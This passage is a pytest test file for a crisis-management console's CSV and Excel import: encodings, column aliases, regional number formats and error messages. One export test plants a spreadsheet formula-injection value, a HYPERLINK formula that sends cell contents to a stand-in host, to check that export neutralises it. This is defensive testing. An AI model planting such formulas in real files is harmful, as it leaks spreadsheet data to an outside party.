"""New rows from CSV files (rosters, stock lists), on real files."""

import csv
import io
import json
import re
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st

from console import cli, csv_rows, model, seed
from console.model import ValidationError
from console.store import Store


def write(path, text, encoding="utf-8"):
    path.write_bytes(text.encode(encoding))
    return path


@pytest.fixture
def store(tmp_path):
    s = Store(tmp_path / "ops.db", agency="EOC", operator="Sgt. Lee")
    s.add("units", {"callsign": "E-12", "agency": "County Fire", "kind": "Engine"})
    yield s
    s.close()


def rows_of(store, table):
    return {r.callsign if table == "units" else r.title: r for r in store.list(table)}


def test_a_roster_as_a_spreadsheet_saves_it(store, tmp_path):
    # Excel's "CSV UTF-8": a byte-order mark, semicolons in many locales,
    # headers as people write them, empty cells, a blank line at the end.
    roster = write(tmp_path / "roster.csv", "\ufeffCallsign;Agency;Kind;Status;Personnel;Location\r\n"
                   "E-21;County Fire;Engine, Type 1;available;4;Station 2\r\n"
                   "E-22;County Fire;Engine, Type 1;en route;4;Route 9\r\n"
                   "M-7;County EMS;Ambulance;On Scene;;\r\n"
                   ";;;;;\r\n")
    found = csv_rows.read("units", roster)
    assert found.lines == ["roster.csv, line 2", "roster.csv, line 3", "roster.csv, line 4"]
    assert found.rows[2] == {"callsign": "M-7", "agency": "County EMS", "kind": "Ambulance", "status": "On Scene"}
    store.add_many("units", found.rows, where=found.lines, summary="Added 3 units from roster.csv")
    units = rows_of(store, "units")
    assert units["E-22"].status == "en_route" and units["E-22"].personnel == 4 and units["E-22"].location == "Route 9"
    assert units["M-7"].status == "on_scene" and units["M-7"].personnel is None
    assert store.journal(limit=1)[0].text == "Added 3 units from roster.csv"
    # "sep=,": the line Excel writes first (and reads) to say what is between cells.
    said = write(tmp_path / "said.csv",
                 "\ufeffSEP=,\r\ncallsign,agency,kind\r\nE-23,County Fire,\"Engine; Type 1\"\r\n")
    found = csv_rows.read("units", said)
    assert found.rows == [{"callsign": "E-23", "agency": "County Fire", "kind": "Engine; Type 1"}]
    assert found.lines == ["said.csv, line 3"]
    tasks = write(tmp_path / "tasks.csv", "Title\tPriority\tLead agency\tDue\n"
                  "Sandbag the levee\turgent\tPublic Works\t2026-11-26T18:00:00Z\n"
                  "\"Welfare checks,\nLower Mill\"\thigh\tCity Police\t\n")
    found = csv_rows.read("tasks", tasks)
    store.add_many("tasks", found.rows, where=found.lines)
    t = rows_of(store, "tasks")
    assert t["Sandbag the levee"].lead_agency == "Public Works" and t["Sandbag the levee"].due == "2026-11-26T18:00:00Z"
    assert t["Welfare checks, Lower Mill"].priority == "high"  # (a title is one line: see model.given_text)


@pytest.mark.parametrize("sep", [",", ";", "\t"])
def test_quotes_in_a_cell_are_read_as_excel_writes_them(tmp_path, sep):
    '''A quote within a quoted cell is two ("Chef ""Müller"""), as Excel
    writes it, even where the sniffer of what is between cells guesses
    otherwise (a cell ending in a quoted word); an apostrophe is a letter.'''
    notes = ['Chef "Müller"', '"Ladder 3"', 'Crew of 4, "Ladder 3" spare', "O'Brien", "'Ladder 3'", 'a"b', "ok"]
    path = tmp_path / "roster.csv"
    with path.open("w", newline="", encoding="utf-8") as f:
        csv_rows.csv.writer(f, delimiter=sep).writerows(
            [["callsign", "agency", "kind", "notes"], *[[f"E-{i}", "Fire", "Engine", n] for i, n in enumerate(notes)]])
    assert [r["notes"] for r in csv_rows.read("units", path).rows] == notes
    for note in notes:  # (one row: what the sniffer has least to go on)
        with path.open("w", newline="", encoding="utf-8") as f:
            csv_rows.csv.writer(f, delimiter=sep).writerows([["callsign", "agency", "kind", "notes"],
                                                             ["E-1", "Fire", "Engine", note]])
        assert csv_rows.read("units", path).rows[0]["notes"] == note


def test_an_agency_in_another_case_or_spacing_is_saved_as_spelled_in_use(store, tmp_path):
    """A roster typed by hand: "county fire" is the County Fire already on
    the boards, and a new agency spelled two ways in one file is one, as
    its first row spells it."""
    roster = write(tmp_path / "roster.csv", "callsign,agency,kind\n"
                   "E-21,county fire,Engine\n"
                   "E-22,  COUNTY   Fire ,Engine\n"
                   "R-1,Red Cross,Shelter team\n"
                   "R-2,red cross,Shelter team\n")
    found = csv_rows.read("units", roster)
    store.add_many("units", found.rows, where=found.lines)
    units = rows_of(store, "units")
    assert [units[c].agency for c in ("E-12", "E-21", "E-22", "R-1", "R-2")] == [
        "County Fire", "County Fire", "County Fire", "Red Cross", "Red Cross"]
    assert [a for a, _ in store.tally("units", ["agency"])] == ["County Fire", "Red Cross"]


def test_an_export_of_one_operation_adds_its_units_to_another(tmp_path, capsys):
    with Store(tmp_path / "old.db") as old:
        seed.seed_demo(old)
        # Values a spreadsheet would take for formulas (one from another console, say).
        old.add("units", {"callsign": '=HYPERLINK("http://x.example/?"&A1,"E-1")', "agency": "Fire",
                          "kind": "@Engine", "location": "+43.65,-79.38", "notes": "'=kept as typed"})
        before = {u.callsign: u for u in old.list("units")}
    assert cli.main(["export", "--db", str(tmp_path / "old.db"), "units", "--format", "csv", "-o",
                     str(tmp_path / "units.csv")]) == 0
    capsys.readouterr()
    written = (tmp_path / "units.csv").read_text(encoding="utf-8")
    assert """\"'=HYPERLINK(""http://x.example/?""&A1,""E-1"")\",Fire,'@Engine,""" in written
    assert ",'+43.65,-79.38," not in written and "\"'+43.65,-79.38\"" in written
    assert "''=kept as typed" in written
    assert not any(cell[:1] in "=+-@" for row in csv.reader(io.StringIO(written)) for cell in row if cell
                   and not cell.lstrip("-").replace(".", "").isdigit())  # (numbers as numbers)
    assert cli.main(["add", "--db", str(tmp_path / "new.db"), "units", "--csv", str(tmp_path / "units.csv")]) == 0
    out, err = capsys.readouterr()
    assert out == (f"added {len(before)} units from {tmp_path / 'units.csv'} "
                   "(columns left out: id, task_id, status_since, task)\n") and err == ""
    with Store(tmp_path / "new.db") as new:
        after = {u.callsign: u for u in new.list("units")}
    assert set(after) == set(before)
    for callsign, u in after.items():
        b = before[callsign]
        assert (u.agency, u.kind, u.status, u.location, u.lat, u.lon, u.personnel, u.notes) == (
            b.agency, b.kind, b.status, b.location, b.lat, b.lon, b.personnel, b.notes)
        assert u.id != b.id and u.task_id is None


@pytest.mark.parametrize("text, said", [
    ("callsign,agency,kind\nE-1,Fire,Engine\nE-2,Fire,Engine\nE-3,Fire\n", "f.csv, line 4: no kind"),
    ("callsign,agency,kind\nE-1,Fire,\"Engine,\nType 1\"\nE-3,Fire\n", "f.csv, line 4: no kind"),
    ("callsign,agency,notes\n\"E-1\",Fire,\"two\nlines\"\n", "f.csv has no kind column (a unit needs one)"),
    ("callsign,agency,kind,personnel\nE-1,Fire,Engine,4\nE-2,Fire,Engine,-3\n", "f.csv, line 3: "),
    ("callsign,agency,kind\nE-1,Fire,Engine\ne-1,Fire,Engine\n", "f.csv, line 3: callsign 'e-1' appears twice"),
    ("callsign,agency,kind\nE-1,Fire,Engine\nE-12,Fire,Engine\n", "callsign 'E-12' is already in use"),
    ("callsign,agency,kind,status\nE-1,Fire,Engine,asleep\n", "f.csv, line 2: "),
    ("callsign,agency,kind,colour\nE-1,Fire,Engine,red\n", "the column 'colour' is not a field of units"),
    ("callsign,agency,Callsign\nE-1,Fire,E-2\n", "the column 'Callsign' appears twice"),
    ("callsign,agency,kind\nE-1,Fire,Engine,extra\n", "f.csv, line 2: more cells than the first line names"),
    ("sep=;\ncallsign;agency;kind\nE-1;Fire;Engine\nE-2;Fire\n", "f.csv, line 4: no kind"),
    ("", "f.csv is empty"),
    ("callsign,agency,kind\n\n", "f.csv names its columns but holds no rows"),
])
def test_a_bad_file_is_refused_by_line_and_adds_nothing(store, tmp_path, text, said):
    path = write(tmp_path / "f.csv", text)
    before = store.info().changes
    with pytest.raises(ValidationError, match=re.escape(said)):
        found = csv_rows.read("units", path)
        store.add_many("units", found.rows, where=found.lines)
    assert store.info().changes == before and set(rows_of(store, "units")) == {"E-12"}


def test_files_that_are_not_csv_text(store, tmp_path):
    with pytest.raises(csv_rows.NotUtf8, match=r'^latin\.csv is not UTF-8 text: save it as "CSV UTF-8", or name '
                       r"the encoding it is in$"):
        csv_rows.read("units", write(tmp_path / "latin.csv", "callsign,agency,kind\nÉ-1,Pompiers,Fourgon\n",
                                     encoding="latin-1"))
    (tmp_path / "bin.csv").write_bytes(b"callsign,agency\x00,kind\n")
    with pytest.raises(ValidationError, match="binary data"):
        csv_rows.read("units", tmp_path / "bin.csv")
    with pytest.raises(ValidationError, match="the journal is not imported"):
        csv_rows.read("journal", write(tmp_path / "j.csv", "text\nhello\n"))
    with pytest.raises(FileNotFoundError):
        csv_rows.read("units", tmp_path / "none.csv")


def test_the_add_csv_command_says_what_is_wrong_and_makes_no_database(tmp_path, capsys):
    bad = write(tmp_path / "bad.csv", "callsign,agency,kind,personnel\nX-1,Fire,Engine,many\n")
    db = tmp_path / "new.db"
    assert cli.main(["add", "--db", str(db), "units", "--csv", str(bad)]) == 1
    _, err = capsys.readouterr()
    assert err == "crisis-console: bad.csv, line 2: units.personnel: 'many' is not a number\n"
    assert not db.exists()
    assert cli.main(["add", "--db", str(db), "units"]) == 2
    assert "give FIELD=VALUE ... or --csv FILE" in capsys.readouterr()[1]
    assert cli.main(["add", "--db", str(db), "units", "callsign=E-1", "--csv", str(bad)]) == 2
    assert "not both" in capsys.readouterr()[1]
    assert not db.exists()


REQUIRED = ["callsign", "Agency", "KIND"]
OPTIONAL = ["status", "personnel", "lat", "lon", "notes", "id", "task", "Status since", "location"]
ODD = ["colour", "", "callsign", "kind "]
GOOD = ["E-1", "E-2", "e-1", "Fire", "Engine", "on scene", "4", "", "45.5"]
# Numbers as regions write them: one mark, or two readings, or thousands apart.
REGIONAL = ["45,5", "1.200", "1,200", "12 000", "1'200", "0.125", "1.234,5", "1,234.5", "48.856"]
BAD = ["asleep", "-3", "4.5", "nan", "inf", "1e400", "91", " ", 'a"b', "x;y", "x,y", "x\ty", "line\nbreak",
       "\u00e9", "\ud800", "0x10", "\u0663"]


@st.composite
def csv_files(draw):
    header = draw(st.permutations(REQUIRED))[: draw(st.sampled_from([3, 3, 3, 2]))]
    header += draw(st.lists(st.sampled_from(OPTIONAL), unique=True, max_size=4))
    if draw(st.integers(0, 9)) == 0:
        header.append(draw(st.sampled_from(ODD)))
    header = draw(st.permutations(header))
    cell = st.one_of(st.sampled_from(GOOD), st.sampled_from(GOOD), st.sampled_from(BAD), st.sampled_from(REGIONAL))
    width = st.sampled_from([len(header)] * 6 + [len(header) - 1, len(header) + 1])
    rows = draw(st.lists(width.flatmap(lambda n: st.lists(cell, min_size=max(n, 0), max_size=max(n, 0))),
                         max_size=5))
    return header, rows


@given(csv_files(), st.sampled_from([",", ";", "\t"]), st.booleans())
@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_any_file_is_added_whole_or_refused_with_a_reason(store, tmp_path, file, sep, bom):
    """read, then add_many: rows added, or a ValidationError that names the
    problem and adds nothing; never another exception."""
    def line(cells):
        return sep.join('"' + c.replace('"', '""') + '"' if any(ch in c for ch in f'"{sep}\n') else c
                        for c in cells)

    header, rows = file
    text = ("\ufeff" if bom else "") + "\n".join(line(r) for r in [header, *rows]) + "\n"
    path = tmp_path / "f.csv"
    path.write_bytes(text.encode("utf-8", "surrogatepass"))
    before = store.info().changes
    try:
        found = csv_rows.read("units", path)
        store.add_many("units", found.rows, where=found.lines)
    except ValidationError as exc:
        assert str(exc) and store.info().changes == before
        event(f"refused: {str(exc).split(': ')[1 if str(exc).startswith('f.csv,') else 0][:40]}")
    else:
        assert store.info().changes > before
        event("added")


# ---------------------------------------------------------------- encodings

def test_a_csv_file_of_windows_excel_is_read_when_its_encoding_is_named(store, tmp_path):
    """Excel's "CSV (Comma delimited)" on Western Windows writes
    Windows-1252: refused as not UTF-8 until named, then read whole."""
    text = "Callsign;Agency;Kind;Notes\r\nÉ-1;Pompiers de Genève;Fourgon;Chef: Müller – “Pump 2”\r\n"
    legacy = write(tmp_path / "roster.csv", text, encoding="cp1252")
    with pytest.raises(csv_rows.NotUtf8):
        csv_rows.read("units", legacy)
    found = csv_rows.read("units", legacy, encoding="cp1252")
    assert found.encoding == "cp1252" and csv_rows.encoding_name(found.encoding) == "Windows-1252 (Western European)"
    assert found.rows == [{"callsign": "É-1", "agency": "Pompiers de Genève", "kind": "Fourgon",
                           "notes": "Chef: Müller – “Pump 2”"}]
    assert csv_rows.read("units", legacy, encoding="Latin-1").rows[0]["agency"] == "Pompiers de Genève"
    # Excel's "Unicode Text": UTF-16 with its byte-order mark, tabs between cells, read without naming it.
    unicode_text = write(tmp_path / "roster.txt", "\ufeff" + text.replace(";", "\t"), encoding="utf-16-le")
    found = csv_rows.read("units", unicode_text)
    assert found.encoding is None and found.rows[0]["notes"] == "Chef: Müller – “Pump 2”"
    # Bytes the named encoding has no character for, and an encoding Python does not know.
    (tmp_path / "odd.csv").write_bytes(b"callsign,agency,kind\nE-\x81,Fire,Engine\n")
    with pytest.raises(ValidationError, match=r"^odd.csv is not Windows-1252 \(Western European\) text \(byte 24 "
                                              r"of it\)$"):
        csv_rows.read("units", tmp_path / "odd.csv", encoding="cp1252")
    with pytest.raises(ValidationError, match=r"^'klingon' is not an encoding Python knows"):
        csv_rows.read("units", legacy, encoding="klingon")


def test_the_add_command_names_an_encoding_and_says_how(tmp_path, capsys):
    legacy = write(tmp_path / "roster.csv", "callsign,agency,kind\nE-1,Pompiers de Genève,Fourgon\n",
                   encoding="cp1252")
    db = tmp_path / "ops.db"
    assert cli.main(["add", "--db", str(db), "units", "--csv", str(legacy)]) == 1
    assert capsys.readouterr()[1] == (
        'crisis-console: roster.csv is not UTF-8 text: save it as "CSV UTF-8", or name the encoding it is in '
        '(--encoding cp1252 reads what Excel saves as "CSV (Comma delimited)" on Western Windows)\n')
    assert not db.exists()
    assert cli.main(["add", "--db", str(db), "units", "--csv", str(legacy), "--encoding", "cp1252"]) == 0
    assert capsys.readouterr()[0] == (f"added 1 units from {legacy} (read as Windows-1252 (Western European) "
                                      "text)\n")
    with Store(db) as s:
        assert [u.agency for u in s.list("units")] == ["Pompiers de Genève"]
    assert cli.main(["add", "--db", str(db), "units", "callsign=E-2", "--encoding", "cp1252"]) == 2
    assert "--encoding is of --csv FILE" in capsys.readouterr()[1]
    assert cli.main(["add", "--db", str(db), "units", "--csv", str(legacy), "--sheet", "Units"]) == 1
    assert capsys.readouterr()[1] == "crisis-console: roster.csv is a CSV file: it has no sheets\n"


# ------------------------------------------------------------------ columns

def test_columns_named_as_agencies_name_them(store, tmp_path):
    """A roster of another agency's own making: its columns read as the
    fields they are other names of, and said so; a unit or a zone in
    parentheses aside."""
    roster = write(tmp_path / "drk.csv", "Unit;Organisation;Vehicle type;Crew;Home station;Latitude;Lng;Remarks\n"
                                         "RTW 1;DRK;Ambulance;2;Wache 1;48,137;11,575;Night shift\n")
    found = csv_rows.read("units", roster)
    assert found.rows == [{"callsign": "RTW 1", "agency": "DRK", "kind": "Ambulance", "personnel": 2,
                           "location": "Wache 1", "lat": 48.137, "lon": 11.575, "notes": "Night shift"}]
    assert found.renamed == [["Unit", "callsign"], ["Organisation", "agency"], ["Vehicle type", "kind"],
                             ["Crew", "personnel"], ["Home station", "location"], ["Latitude", "lat"],
                             ["Lng", "lon"], ["Remarks", "notes"]]
    assert found.others == [] and found.left_out == []
    stock = write(tmp_path / "stock.csv", "Item,Category,Owner,Depot,Qty (bags),UoM\n"
                                          "Sandbags,Sand,DPW,Yard 3,1200,bag\n")
    assert csv_rows.read("resources", stock).rows == [{"name": "Sandbags", "kind": "Sand", "agency": "DPW",
                                                       "location": "Yard 3", "quantity": 1200, "unit": "bag"}]
    tasks = write(tmp_path / "tasks.csv", "Task #,Details,Prio.,Lead,Due (CET)\nLevee,Sandbags,urgent,DPW,"
                                          "2026-11-26 18:00\n")
    row = csv_rows.read("tasks", tasks).rows[0]
    assert row["title"] == "Levee" and row["lead_agency"] == "DPW" and row["priority"] == "urgent"
    assert row["due"] == model.parse_typed_time("2026-11-26 18:00")


def test_columns_named_in_the_agencies_languages(tmp_path):
    """A German fire service's roster, a French stock list, a Spanish list
    of tasks: their columns as they name them (accents or none, any
    case), and their numbers and dates as their regions write them."""
    roster = ("Funkrufname;Organisation;Fahrzeugtyp;STARKE;Wache;Bemerkungen\n"
              "Heros 1;THW;MTW;9;OV Mitte;1.200 Sandsäcke\n")
    found = csv_rows.read("units", write(tmp_path / "thw.csv", roster))
    assert found.rows == [{"callsign": "Heros 1", "agency": "THW", "kind": "MTW", "personnel": 9,
                           "location": "OV Mitte", "notes": "1.200 Sandsäcke"}]
    assert ["STARKE", "personnel"] in found.renamed
    found = csv_rows.read("resources", write(tmp_path / "sdis.csv", "Désignation;Catégorie;Propriétaire;Entrepôt;"
                                                                    "Quantité (sacs);Unité\n"
                                                                    "Sacs de sable;Sable;SDIS 74;Annecy;1 200,5;sac\n"))
    assert found.rows == [{"name": "Sacs de sable", "kind": "Sable", "agency": "SDIS 74", "location": "Annecy",
                           "quantity": 1200.5, "unit": "sac"}] and found.decimal == "comma"
    found = csv_rows.read("tasks", write(tmp_path / "tareas.csv", "Tarea,Prioridad,Dirección,Plazo\n"
                                                                  "Achique,alta,Calle Mayor 3,28/11/2026 18:00\n"),
                          leave_others=True)
    assert found.rows[0]["title"] == "Achique" and found.dates == "day-first"
    assert found.rows[0]["due"] == model.parse_typed_time("2026-11-28 18:00")


def test_a_column_that_is_no_field_is_refused_unless_left_out(tmp_path):
    path = write(tmp_path / "r.csv", "Callsign,Unit,Agency,Kind,Type,Radio channel,Phone,merged_into\n"
                                     "E-1,Engine one,Fire,Engine,Type 1,5,555-0100,\n")
    with pytest.raises(csv_rows.OtherColumns) as refused:
        csv_rows.read("units", path)
    # "Unit" beside "Callsign", "Type" beside "Kind": no field; nor is a field only merges write.
    assert str(refused.value) == ("r.csv: the columns 'Unit', 'Type', 'Radio channel', 'Phone', 'merged_into' are "
                                  "not fields of units (fields: callsign, agency, kind, status, task_id, location, "
                                  "lat, lon, personnel, notes; 'Unit' would be the callsign, which 'Callsign' is; "
                                  "'Type' would be the kind, which 'Kind' is)")
    assert refused.value.columns == ["Unit", "Type", "Radio channel", "Phone", "merged_into"]
    found = csv_rows.read("units", path, leave_others=True)
    assert found.rows == [{"callsign": "E-1", "agency": "Fire", "kind": "Engine"}] and found.renamed == []
    assert found.others == ["Unit", "Type", "Radio channel", "Phone", "merged_into"]
    # Two other names of one field: the first is read as it.
    found = csv_rows.read("units", write(tmp_path / "s.csv", "Unit,Agency,Type,Vehicle\nE-1,Fire,Engine,Ford\n"),
                          leave_others=True)
    assert found.rows[0]["kind"] == "Engine" and found.others == ["Vehicle"]
    assert found.shadowed == ["'Vehicle' would be the kind, which 'Type' is"]
    with pytest.raises(ValidationError, match=r"^t\.csv has no callsign column \(a unit needs one; its other "
                                              r"columns: Calsign\)$"):
        csv_rows.read("units", write(tmp_path / "t.csv", "Calsign,Agency,Kind\nE-1,Fire,Engine\n"), leave_others=True)
    with pytest.raises(ValidationError, match=r"^u\.csv: the column 'Kind' appears twice$"):
        csv_rows.read("units", write(tmp_path / "u.csv", "Callsign,kind,Agency,Kind\nE-1,a,Fire,b\n"))


def test_the_add_command_leaves_out_columns_when_told(tmp_path, capsys):
    roster = write(tmp_path / "r.csv", "Unit;Organisation;Type;Crew;Radio channel\nRTW 1;DRK;Ambulance;2;5\n")
    db = tmp_path / "ops.db"
    assert cli.main(["add", "--db", str(db), "units", "--csv", str(roster)]) == 1
    assert capsys.readouterr()[1] == ("crisis-console: r.csv: the column 'Radio channel' is not a field of units "
                                      "(fields: callsign, agency, kind, status, task_id, location, lat, lon, "
                                      "personnel, notes) (--leave-out-others adds the rows without it)\n")
    assert not db.exists()
    assert cli.main(["add", "--db", str(db), "units", "--csv", str(roster), "--leave-out-others"]) == 0
    assert capsys.readouterr()[0] == (f"added 1 units from {roster} (columns read as: Unit as callsign, "
                                      "Organisation as agency, Type as kind, Crew as personnel; columns left out: "
                                      "Radio channel)\n")
    assert cli.main(["add", "--db", str(db), "units", "callsign=X", "--leave-out-others"]) == 2
    assert "--leave-out-others is of --csv FILE" in capsys.readouterr()[1]


def test_the_readme_lists_every_other_name_of_a_field_and_each_is_one_fields():
    readme = " ".join((Path(__file__).parent.parent / "README.md").read_text(encoding="utf-8").split())
    for table, fields in csv_rows.ALIASES.items():
        listed = f"- {table}: " + "; ".join(f"{f} (" + ", ".join(names) + ")" for f, names in fields.items())
        assert listed in readme, f"README does not list the other names of {table}'s fields as ALIASES has them"
        of: dict[str, str] = {}
        for f, names in fields.items():
            assert f in model.TABLES[table].names and len(set(names)) == len(names)
            for name in names:
                key = csv_rows.column_key(name)
                assert key not in model.TABLES[table].names, f"{name!r} is a field of {table}"
                assert key not in csv_rows.LEFT_OUT | csv_rows.LEFT_OUT_OF.get(table, set()), f"{name!r} is left out"
                assert of.setdefault(key, f) == f, f"{name!r} is {of[key]} and {f} of {table}"


# ------------------------------------------------------------------ numbers

@pytest.mark.parametrize("cells, read, decimal", [
    # One number that reads one way only says the mark of the file.
    (["1,5", "5.000", "250"], [1.5, 5000, 250], "comma"),  # a German stock list: 5.000 sandbags
    (["0.75", "5.000"], [0.75, 5.0], "point"),  # (5.000 read with the point the file writes)
    (["1.234,5", "1.200"], [1234.5, 1200], "comma"),
    (["1,234.5", "1,200"], [1234.5, 1200], "point"),
    (["1.200.000", "2,500"], [1200000, 2.5], "comma"),
    (["1,200,000", "2.500"], [1200000, 2.5], "point"),
    # Thousands set apart by a space (a no-break one, as Excel's French
    # region writes them) or an apostrophe (Switzerland) are only that.
    (["12 000", "12\u00a0000,5", "1\u202f200"], [12000, 12000.5, 1200], "comma"),
    (["1'200.50", "1’200"], [1200.5, 1200], None),  # (a point, as taken for granted)
    # Nothing that reads two ways: nothing to say.
    (["250", "4", "1e3", ".5"], [250, 4, 1000, 0.5], None),
    (["2.5", "0.125"], [2.5, 0.125], None),
])
def test_numbers_are_read_as_the_region_that_saved_the_file_writes_them(store, tmp_path, cells, read, decimal):
    rows = "".join(f'Item {i};Sandbags;THW;"{c}"\n' for i, c in enumerate(cells))
    found = csv_rows.read("resources", write(tmp_path / "stock.csv", "name;kind;agency;quantity\n" + rows))
    assert [r["quantity"] for r in found.rows] == read and found.decimal == decimal
    store.add_many("resources", found.rows, where=found.lines)
    assert sorted(r.quantity for r in store.list("resources")) == sorted(read)


def test_numbers_that_read_two_ways_wait_for_a_person_to_name_the_mark(store, tmp_path):
    """1.200 litres: 1.2 with a decimal point, 1200 with a comma; nothing
    else in the file says which: refused (Ambiguous, what it needs to ask
    in its detail), then read as named."""
    path = write(tmp_path / "stock.csv", "name;kind;agency;quantity;unit\nWater;Drinking water;Red Cross;1.200;l\n"
                                         "Sand;Sandbags;THW;5.000;\nCots;Cots;THW;40;\nFuel;Diesel;DPW;2.500;l\n")
    before = store.info().changes
    with pytest.raises(csv_rows.Ambiguous, match=r"^stock\.csv, line 2: resources\.quantity: '1\.200' may be 1\.2 "
                       r"or 1200, and no number in the file says which: name its decimal mark \(point or comma\)$") \
            as refused:
        csv_rows.read("resources", path)
    assert refused.value.detail == {"where": "stock.csv, line 2", "field": "quantity", "written": "1.200", "more": 2,
                                    "option": "decimal", "readings": {"point": "1.200", "comma": "1200"},
                                    "shown": {"point": "1.2", "comma": "1200"}}
    assert store.info().changes == before
    found = csv_rows.read("resources", path, decimal="comma")
    assert [r["quantity"] for r in found.rows] == [1200, 5000, 40, 2500] and found.decimal == "comma"
    found = csv_rows.read("resources", path, decimal="point")
    assert [r["quantity"] for r in found.rows] == [1.2, 5, 40, 2.5] and found.decimal == "point"
    with pytest.raises(ValidationError, match="is not a decimal mark"):
        csv_rows.read("resources", path, decimal="dot")


def test_a_number_fits_its_field_one_way_only_and_so_says_the_mark(store, tmp_path):
    """A unit's personnel is whole: 1.200 people are 1200, and the file's
    mark is a comma. A latitude is at most 90: 48.856 is 48.856, with a
    point. Both in one file: refused, as written two ways."""
    roster = "callsign;agency;kind;personnel;lat;lon\n"
    found = csv_rows.read("units", write(tmp_path / "a.csv", roster + "R-1;THW;Truck;1.200;48,856;2,352\n"))
    assert [(r["personnel"], r["lat"], r["lon"]) for r in found.rows] == [(1200, 48.856, 2.352)]
    found = csv_rows.read("units", write(tmp_path / "b.csv", roster + "R-1;THW;Truck;1,200;48.856;2.352\n"))
    assert [(r["personnel"], r["lat"], r["lon"]) for r in found.rows] == [(1200, 48.856, 2.352)]
    with pytest.raises(ValidationError, match=r"^c\.csv, line 3: units\.lat: '48\.856' with a decimal comma, as line "
                       r"2 writes '1\.200', is 48856, which a lat cannot be: write the numbers alike$"):
        csv_rows.read("units", write(tmp_path / "c.csv", roster + "R-1;THW;Truck;1.200;;\nR-2;THW;Truck;;48.856;\n"))
    with pytest.raises(ValidationError, match=r"^c\.csv, line 3: units\.lat: '48\.856' with a decimal comma, as "
                       r"named, is 48856, which a lat cannot be: write the numbers alike$"):
        csv_rows.read("units", tmp_path / "c.csv", decimal="comma")


@pytest.mark.parametrize("text, said", [
    ('name,kind,agency,quantity\nA,B,C,2.5\nD,E,F,"1,5"\n',
     "f.csv, line 3: resources.quantity: '1,5' is written with a decimal comma, not a decimal point, as line 2 "
     "writes '2.5': write the numbers alike"),
    ("name;kind;agency;quantity\nA;B;C;1.234,5\nD;E;F;1,234.5\n",
     "f.csv, line 3: resources.quantity: '1,234.5' is written with a decimal point, not a decimal comma, as line 2 "
     "writes '1.234,5': write the numbers alike"),
    ("name;kind;agency;quantity\nA;B;C;1 2\n", "f.csv, line 2: resources.quantity: '1 2' is not a number"),
    ("name;kind;agency;quantity\nA;B;C;1.2.3\n", "f.csv, line 2: resources.quantity: '1.2.3' is not a number"),
    ("name;kind;agency;quantity\nA;B;C;12.00.000\n", "f.csv, line 2: resources.quantity: '12.00.000' is not a number"),
    ("name;kind;agency;quantity\nA;B;C;-1,5\n", "f.csv, line 2: resources.quantity must be at least 0, not -1.5"),
])
def test_numbers_written_two_ways_in_one_file_are_refused(store, tmp_path, text, said):
    before = store.info().changes
    with pytest.raises(ValidationError) as refused:
        found = csv_rows.read("resources", write(tmp_path / "f.csv", text))
        store.add_many("resources", found.rows, where=found.lines)
    assert str(refused.value) == said and store.info().changes == before


def test_a_workbook_number_is_as_excel_holds_it_and_its_text_cells_as_written(tmp_path):
    """A number cell has no decimal mark to tell (1.234 is 1.234); a cell
    typed as text is read as a CSV file's cell."""
    header = ["name", "kind", "agency", "quantity"]
    found = csv_rows.read("resources", workbook(tmp_path / "a.xlsx", {"Stock": [
        header, ["Water", "Water", "DPW", 1.234], ["Sand", "Sand", "DPW", 1200]]}))
    assert [r["quantity"] for r in found.rows] == [1.234, 1200] and found.decimal is None
    book = workbook(tmp_path / "b.xlsx", {"Stock": [header, ["Water", "Water", "DPW", 1.234],
                                                    ["Sand", "Sand", "DPW", "5.000"]]})
    with pytest.raises(csv_rows.Ambiguous, match=r"^b\.xlsx, row 3: resources\.quantity: '5\.000' may be 5 or 5000"):
        csv_rows.read("resources", book)
    assert [r["quantity"] for r in csv_rows.read("resources", book, decimal="comma").rows] == [1.234, 5000]


def test_the_add_command_names_the_decimal_mark(tmp_path, capsys):
    stock = write(tmp_path / "stock.csv", "name;kind;agency;quantity\nSand;Sandbags;THW;5.000\n")
    db = tmp_path / "ops.db"
    assert cli.main(["add", "--db", str(db), "resources", "--csv", str(stock)]) == 1
    assert capsys.readouterr() == ("", "crisis-console: stock.csv, line 2: resources.quantity: '5.000' may be 5 or "
                                       "5000, and no number in the file says which: name its decimal mark (point or "
                                       "comma) (--decimal point reads it as 5, --decimal comma as 5000)\n")
    assert not db.exists()
    assert cli.main(["add", "--db", str(db), "resources", "--csv", str(stock), "--decimal", "comma"]) == 0
    assert capsys.readouterr()[0] == f"added 1 resources from {stock} (numbers with a decimal comma)\n"
    assert cli.main(["list", "--db", str(db), "resources", "--json"]) == 0
    assert [r["quantity"] for r in json.loads(capsys.readouterr()[0])] == [5000]
    assert cli.main(["add", "--db", str(db), "resources", "name=Cots", "--decimal", "comma"]) == 2
    assert "--decimal is of --csv FILE" in capsys.readouterr()[1]
    assert cli.main(["add", "--db", str(db), "resources", "--csv", str(stock), "--decimal", "dot"]) == 2
    assert "invalid choice: 'dot'" in capsys.readouterr()[1]


@given(st.text("0123456789.,+- '\u00a0", max_size=12))
@settings(max_examples=2000, deadline=None)
def test_the_quick_reading_of_a_number_is_the_full_one(text):
    """A number of one mark (2.5, 1.200) is read at once, without the
    forms of thousands set apart: as they read it."""
    def value(reading):
        return None if reading is None else float(reading)

    quick = csv_rows._readings(text.strip())
    assert {mark: value(r) for mark, r in quick.items()} == {
        "point": value(csv_rows._reading(text.strip(), ".")), "comma": value(csv_rows._reading(text.strip(), ","))}


def read_or_asked(table, path, **way):
    """csv_rows.read; refused as Ambiguous, read again with `way` named,
    as a person asked would answer."""
    try:
        return csv_rows.read(table, path)
    except csv_rows.Ambiguous:
        event("asked")
        return csv_rows.read(table, path, **way)


def written(value: Decimal, mark: str, group: str | None, decimals: int) -> str:
    """`value` as a spreadsheet of a region writes it: with the decimal
    `mark`, `decimals` places (Excel's "0.000"), thousands set apart by
    `group` (None: not)."""
    whole, _, part = f"{value:.{decimals}f}".partition(".")
    if group is not None:
        whole = f"{int(whole):,}".replace(",", group)
    return whole + (("." if mark == "point" else ",") + part if part else "")


@given(st.sampled_from(["point", "comma"]), st.data())
@settings(max_examples=200, deadline=None)
def test_a_file_is_read_as_its_region_wrote_it_or_asked_about_never_misread(tmp_path_factory, mark, data):
    """Numbers written alike, as one region writes them (its mark, its
    thousands apart or not, a number's places as formatted): read as
    written, or refused as Ambiguous and then read as written once the
